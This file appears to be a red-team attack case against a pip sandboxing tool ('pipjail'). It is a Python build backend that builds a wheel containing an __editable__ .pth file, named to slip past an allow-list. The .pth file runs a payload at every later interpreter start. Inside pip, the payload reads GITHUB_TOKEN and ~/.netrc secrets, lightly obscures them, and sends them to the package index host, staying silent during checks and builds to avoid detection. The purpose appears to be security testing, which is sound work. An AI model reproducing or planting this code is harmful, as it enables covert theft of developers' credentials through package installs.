# Attack B1 (via C1): an __editable__.*.pth (allowed by name, so the
# install is clean and committed) whose code runs at the start of every
# later interpreter of the environment, pip's own included.  In the user's
# NEXT pipjail run, it runs inside the trusted pip process: the proxy serves
# it, and ~/.netrc (which only pip may read) is open to it.
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-pth-then-pip", "1.0"

PAYLOAD = rb'''
import os, sys
def _rt1():
    if not os.path.exists("/run/pipjail/anchors"):
        return
    if "pip" not in os.path.basename(sys.argv[0] or ""):
        return          # the import check, a build: stay quiet
    a = sys.argv
    if "--index-url" not in a:
        return
    base = a[a.index("--index-url") + 1].rsplit("/simple", 1)[0]
    gh = os.environ.get("GITHUB_TOKEN", "")[::-1]
    try:
        netrc = open(os.path.expanduser("~/.netrc")).read().split()[-1][::-1]
    except OSError as e:
        netrc = "err-" + type(e).__name__
    import urllib.request
    try:
        urllib.request.urlopen(f"{base}/rt1-from-pip/{gh}/{netrc}/{os.getpid()}", timeout=5).read()
    except Exception:
        pass
_rt1()
'''

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {
        "__editable__.rt1pip.pth": b"import rt1_pip_payload\n",
        "rt1_pip_payload.py": PAYLOAD})
